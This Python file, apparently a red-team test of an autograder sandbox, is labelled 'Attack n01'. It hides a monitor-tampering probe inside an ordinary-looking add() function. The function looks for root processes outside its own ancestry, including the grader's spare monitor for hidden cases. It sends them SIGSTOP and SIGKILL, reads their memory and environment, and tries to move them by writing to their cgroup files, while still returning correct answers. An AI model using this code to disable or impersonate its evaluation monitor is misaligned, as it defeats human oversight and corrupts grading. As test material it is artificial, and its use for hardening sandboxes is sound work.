"""Attack n01: reach the monitor waiting for this submission's hidden cases (a spare, armed by the
grader while the public cases run: autograder/sandbox/spares.py), to stop it, read it or take its
place before the hidden cases' runner is forked from it.

The public add waits up to 2 s for a root process of its PID namespace that is not one of its own
ancestors (bubblewrap's init, the template and its successor, its own monitor are), then, for
each such process: signals it (0, SIGSTOP, SIGKILL), opens its memory, its environment and its
descriptors, and writes to its cgroup's procs file named in /proc/<pid>/cgroup (through
/sys/fs/cgroup, which bubblewrap does not show). It prints how many it found and what worked.
Honest otherwise: 4/4 (the hidden case too, which a stopped or killed spare would have cost)."""

import os
import signal
import time

import numpy as np


def _ancestors():
    mine, pid = set(), os.getpid()
    while pid > 0 and pid not in mine:
        mine.add(pid)
        try:
            with open(f"/proc/{pid}/stat", encoding="ascii") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return mine


def _root_strangers():
    mine, found = _ancestors(), []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in mine:
            try:
                if os.stat(f"/proc/{name}").st_uid == 0:
                    found.append(int(name))
            except OSError:
                pass
    return found


def _touch(pid):
    worked = []
    for sig in (0, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            worked.append(f"signal {int(sig)}")
        except OSError:
            pass
    for path in (f"/proc/{pid}/mem", f"/proc/{pid}/environ"):
        try:
            with open(path, "rb") as f:
                f.read(1)
            worked.append(path.rsplit("/", 1)[1])
        except OSError:
            pass
    try:
        if os.listdir(f"/proc/{pid}/fd"):
            worked.append("fd")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/cgroup", encoding="utf-8") as f:
            groups = [line.split(":", 2)[2].strip() for line in f if line.count(":") >= 2]
        for group in groups:
            for base in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/cpu"):
                try:
                    with open(f"{base}{group}/cgroup.procs", "w", encoding="ascii") as f:
                        f.write("0")
                    worked.append("cgroup")
                except OSError:
                    pass
    except OSError:
        pass
    return worked


def add(a, b):
    deadline, strangers = time.monotonic() + 2, []
    while time.monotonic() < deadline and not strangers:
        strangers = _root_strangers()
        time.sleep(0.01)
    worked = [w for pid in strangers for w in _touch(pid)]
    print(f"root processes not mine: {len(strangers)}; what worked: {len(worked)} {sorted(set(worked))}")
    return a + b


def scale(x, k):
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    return tuple(shape)
